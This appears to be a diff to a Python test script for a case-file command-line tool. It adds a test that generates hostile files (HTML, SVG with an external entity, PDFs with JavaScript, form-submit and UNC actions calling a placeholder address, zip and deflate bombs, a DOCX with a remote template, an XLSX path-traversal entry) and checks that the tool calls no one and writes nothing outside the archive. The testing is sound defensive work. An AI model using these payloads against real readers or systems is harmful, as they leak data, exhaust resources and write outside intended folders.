@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Files in a case, through the command line: a large one in and out with memory and log measured, kill -9 and Ctrl+C at random
-moments, and what is refused. --full takes a file of 1 GiB; --all kills in it, too."""
+moments, what is refused, and that no hostile file makes the program call anybody. --full takes a file of 1 GiB; --all kills in it, too."""
 import hashlib
 import json
 import os
@@ -10,8 +10,11 @@ import signal
 import subprocess
 import threading
 import time
+import zipfile
+import zlib
 
 import cli
+import sockets
 from cli import check
 
 MEBI = 1024 * 1024
@@ -174,6 +177,83 @@ def refused(place):
     check(place.on_book("cases", "--search", "seldomword")["cases"][0]["number"] == number, "the text of a file is not found")
 
 
+STRANGER = "203.0.113.7"  # nobody's address, so that a call would need no name to be looked up
+
+
+def pdf(*objects):
+    """A PDF with a page and these objects from number 4 on; readers find their way without a table of places."""
+    page = ("<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
+            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 5 0 R/Annots[6 0 R]>>")
+    body = "".join(f"{n} 0 obj\n{each}\nendobj\n" for n, each in enumerate(page + objects, 1))
+    return f"%PDF-1.7\n{body}trailer\n<</Root 1 0 R>>\n%%EOF\n".encode()
+
+
+def office(place, name, parts):
+    path = place.files / name
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        for part, content in parts.items():
+            archive.writestr(part, content)
+    return path
+
+
+def hostile_files(place):
+    stranger = f"http://{STRANGER}/x"
+    bytes_of = lambda name, content: (place.files / name, (place.files / name).write_bytes(content))[0]
+    yield place.write("page.html", f"<html><head><link rel=stylesheet href='{stranger}.css'><meta http-equiv=refresh content='0;url={stranger}'>"
+                                   f"<base href='{stranger}/'></head><body background='{stranger}.png'><img src='{stranger}.png'>"
+                                   f"<iframe src='{stranger}'></iframe><script src='{stranger}.js'></script></body></html>")
+    yield place.write("note.txt", f"<img src='{stranger}.png'> \\\\{STRANGER}\\share\\x.png file://{STRANGER}/share/x.png")
+    yield place.write("drawing.svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
+                                     f"<!DOCTYPE x [<!ENTITY e SYSTEM '{stranger}'>]><image xlink:href='{stranger}.png'/></svg>")
+    yield bytes_of("asks.pdf", pdf(f"<</S/URI/URI({stranger})>>", "<</Length 0>>stream\n\nendstream",
+                                   f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F<</FS/URL/F({stranger})>>>>>>"))
+    yield bytes_of("loads.pdf", pdf(f"<</S/JavaScript/JS(this.submitForm('{stranger}'))>>",
+                                    f"<</Length 0/F<</FS/URL/F({stranger})>>>>stream\n\nendstream",
+                                    f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\{STRANGER}\\\\x.pdf)>>>>"))
+    bomb = zlib.compress(bytes(64 * MEBI), 9)
+    yield bytes_of("bomb.pdf", pdf("<</S/Named/N/NextPage>>", f"<</Length {len(bomb)}/Filter/FlateDecode>>stream\n", "<<>>") + bomb)
+    yield office(place, "bomb.docx", {"word/document.xml": bytes(64 * MEBI)})
+    yield office(place, "fetches.docx", {
+        "word/document.xml": "<w:document/>",
+        "word/_rels/settings.xml.rels": f'<r Type=".../attachedTemplate" Target="{stranger}.dotm" TargetMode="External"/>'})
+    yield office(place, "climbs.xlsx", {"xl/workbook.xml": "<workbook/>", "../../../../tmp/climbed.txt": "climbed"})
+
+
+def hostile(place):
+    """Nothing of such a file is fetched while it comes in, is searched, put into a binder, sealed or saved."""
+    tracer = sockets.listening()
+    log = place.folder / "sockets.log"
+    if tracer:
+        check(sockets.notices(tracer, log), "a connection was not noticed")
+
+    def watched(*words):
+        command = place.command(*words, "--casebook", place.book, "--passphrase-file", place.passphrase_file)
+        process = subprocess.run([*tracer, *([str(log)] if tracer else []), *command], env=place.environment, capture_output=True,
+                                 text=True, timeout=300, check=False)
+        calls = sockets.leaving(log, here=()) if tracer else []
+        check(not calls, f"{words} called somebody: {calls}")
+        return process
+
+    number = new_case(place, "Hostile")
+    for path in hostile_files(place):
+        process = watched("attach", "add", number, path, "--keep-dangerous")
+        check(process.returncode in (cli.DONE, cli.REFUSED), f"{path.name}: {process.returncode} {process.stderr}")
+    kept = listed(place, number)
+    check(len(kept) >= 6, f"most of them are kept: {[one['name'] for one in kept]}")
+    out = place.files / "binder.pdf"
+    for words in (("binder", number, out), ("hand-over", number, out, "--recipient", "Whitcomb LLP", "--purpose", "Advice"),
+                  ("cases", "--search", "share"), ("attach", "verify", number)):
+        process = watched(*words)
+        check(process.returncode == cli.DONE, f"{words}: {process.stderr}")
+    for one in kept:
+        process = watched("attach", "save", number, one["id"], "--to", place.files / "saved")
+        check(process.returncode == cli.DONE, f"{one['name']}: {process.stderr}")
+    climbed = [path for path in place.folder.rglob("climbed.txt")]
+    check(not climbed, f"a file climbed out of its archive: {climbed}")
+    print(f"  {len(kept)} hostile files kept, printed, sealed and saved" + ("; nobody was called" if tracer else ""), flush=True)
+
+
 def full_disk(place):
     """A file for which there is no room is refused with a sentence before it fills the disk, and work goes on."""
     disk = place.folder / "disk"
@@ -205,6 +285,7 @@ def run(arguments):
     with cli.Place(arguments.program) as place:
         place.init()
         refused(place)
+        hostile(place)
         full_disk(place)
         large_file(place, random_source, size)
         interrupted(place, random_source, size if arguments.all else 16 * MEBI, arguments.kills)
